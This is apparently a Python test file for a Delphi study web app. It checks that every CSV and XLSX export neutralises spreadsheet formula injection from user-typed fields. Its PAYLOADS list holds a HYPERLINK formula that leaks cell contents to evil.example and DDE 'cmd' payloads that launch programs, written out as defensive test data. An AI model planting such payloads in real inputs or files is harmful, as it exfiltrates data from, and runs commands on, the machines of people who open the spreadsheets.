"""Spreadsheet formula injection is neutralised in every CSV and XLSX export, downloaded through its HTTP routes.

Everything people type that reaches an export (statement texts and sections, group names, the panel title,
comments, reasons for ratings outside the middle half, panellists' names and e-mail addresses, suggestions) is set to text a spreadsheet would run:
``=HYPERLINK(...)``, ``+``, ``-``, ``@``, tab and carriage-return leads.  Every export in every format is then
downloaded by the owner through the results pages and through ``/api/v1``.  A CSV cell may start with one of
those characters only if it is a number (``-2``); an XLSX file may hold no formula at all.  Hypothesis then
varies the text of a statement, of a published comment and of a published reason and checks the files again.
"""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from litestar.testing import AsyncTestClient
from sqlalchemy import update
from sqlalchemy.ext.asyncio import AsyncSession

from delphi.db.models import Panel, Panellist, Rating, StakeholderGroup, Statement, Suggestion
from delphi.results.exports import CATALOG
from delphi.results.writers import DANGEROUS_PREFIXES
from delphi.settings import Settings
from tests.results.helpers import OWNER, World, become, build_world

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!A1",
]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def csv_problems(name: str, data: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    return [
        f"{name} row {i} column {j}: {cell[:40]!r}"
        for i, row in enumerate(rows)
        for j, cell in enumerate(row)
        if cell.startswith(DANGEROUS_PREFIXES) and not is_number(cell)
    ]


def xlsx_problems(name: str, data: bytes) -> list[str]:
    problems = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for member in z.namelist():
            if member.startswith("xl/worksheets/") and member.endswith(".xml"):
                xml = z.read(member).decode("utf-8")
                if "<f>" in xml or "<f " in xml:
                    problems.append(f"{name} {member}: has a formula element")
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{name} {sheet.title}!{cell.coordinate}: formula {cell.value!r}")
    return problems


async def plant(session: AsyncSession, world: World, texts: list[str]) -> None:
    """Put ``texts`` (cycled) into every free-text field that reaches an export."""
    study = world.study
    t = iter(texts * 20)
    for statement in study.statements.values():
        await session.execute(
            update(Statement).where(Statement.id == statement.id).values(text=next(t), section=next(t))
        )
    for group in study.groups.values():
        await session.execute(
            update(StakeholderGroup).where(StakeholderGroup.id == group.id).values(name=next(t))
        )
    await session.execute(update(Panel).where(Panel.id == study.panel.id).values(title=next(t)))
    for p in study.panellists:
        await session.execute(update(Panellist).where(Panellist.id == p.id).values(name=next(t)))
    await session.execute(
        update(Panellist).where(Panellist.id == study.panellists[0].id).values(email="=1+1@evil.example")
    )
    for rating_id in study.comments.values():
        await session.execute(
            update(Rating).where(Rating.id == rating_id).values(comment=next(t), comment_status="published")
        )
    for rating_id in study.reasons.values():
        await session.execute(
            update(Rating).where(Rating.id == rating_id).values(reason=next(t), reason_status="published")
        )
    session.add(
        Suggestion(panel_id=study.panel.id, round_id=study.rounds[1].id, text=next(t), section=next(t))
    )
    await session.commit()


async def download_everything(client: AsyncTestClient, world: World) -> dict[str, bytes]:
    files = {}
    for spec in CATALOG:
        for fmt in spec.formats:
            for prefix in (f"/panels/{world.pid}", f"/api/v1/panels/{world.pid}"):
                url = f"{prefix}/exports/{spec.name}.{fmt}"
                response = await client.get(url)
                assert response.status_code == 200, (url, response.status_code, response.text[:300])
                files[url] = response.content
    return files


def problems_in(files: dict[str, bytes]) -> list[str]:
    out = []
    for url, data in files.items():
        if url.endswith(".csv"):
            out += csv_problems(url, data)
        elif url.endswith(".xlsx"):
            out += xlsx_problems(url, data)
    return out


async def test_no_export_lets_a_spreadsheet_run_what_people_typed(
    client: AsyncTestClient, session: AsyncSession, settings: Settings
) -> None:
    world = await build_world(session, settings, rounds=2)
    await plant(session, world, PAYLOADS)
    await become(client, world, OWNER)
    files = await download_everything(client, world)
    assert len(files) >= 2 * sum(len(s.formats) for s in CATALOG)
    # The payloads did reach the files (neutralised), so the check above is not vacuous.
    csv_text = b"".join(v for k, v in files.items() if k.endswith(".csv")).decode("utf-8")
    assert "'=HYPERLINK" in csv_text and "'@SUM" in csv_text and "'+SUM" in csv_text
    assert problems_in(files) == []


formulas = st.builds(
    lambda lead, body: lead + body,
    st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\t=", " =", "=="]),
    st.text(
        st.characters(exclude_characters="\x00", exclude_categories=("Cs",)), max_size=60
    ),  # no NUL (PostgreSQL), no lone surrogates (not encodable)
)


@pytest.fixture
async def owner_world(client: AsyncTestClient, session: AsyncSession, settings: Settings) -> World:
    """A panel with one closed round, and its owner signed in on ``client`` (shared by the examples)."""
    world = await build_world(session, settings, rounds=1)
    await become(client, world, OWNER)
    return world


@given(statement=formulas, comment=formulas, group=formulas, reason=formulas)
@settings(
    max_examples=25,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
async def test_any_formula_like_text_is_neutralised_in_csv_and_xlsx(
    client: AsyncTestClient,
    session: AsyncSession,
    owner_world: World,
    statement: str,
    comment: str,
    group: str,
    reason: str,
) -> None:
    study = owner_world.study
    await session.execute(
        update(Statement).where(Statement.id == study.statements["S2"].id).values(text=statement)
    )
    await session.execute(
        update(Rating)
        .where(Rating.id == study.comments["formula"])
        .values(comment=comment, comment_status="published", reason=reason, reason_status="published")
    )
    await session.execute(
        update(StakeholderGroup)
        .where(StakeholderGroup.id == study.groups["users"].id)
        .values(name=group[:100])
    )
    await session.commit()
    files = {}
    for name in ("final-list.csv", "ratings.csv", "ratings.xlsx", "round-summaries.csv", "final-list.xlsx"):
        response = await client.get(f"/api/v1/panels/{owner_world.pid}/exports/{name}")
        assert response.status_code == 200, (name, response.text[:300])
        files[name] = response.content
    assert problems_in(files) == []
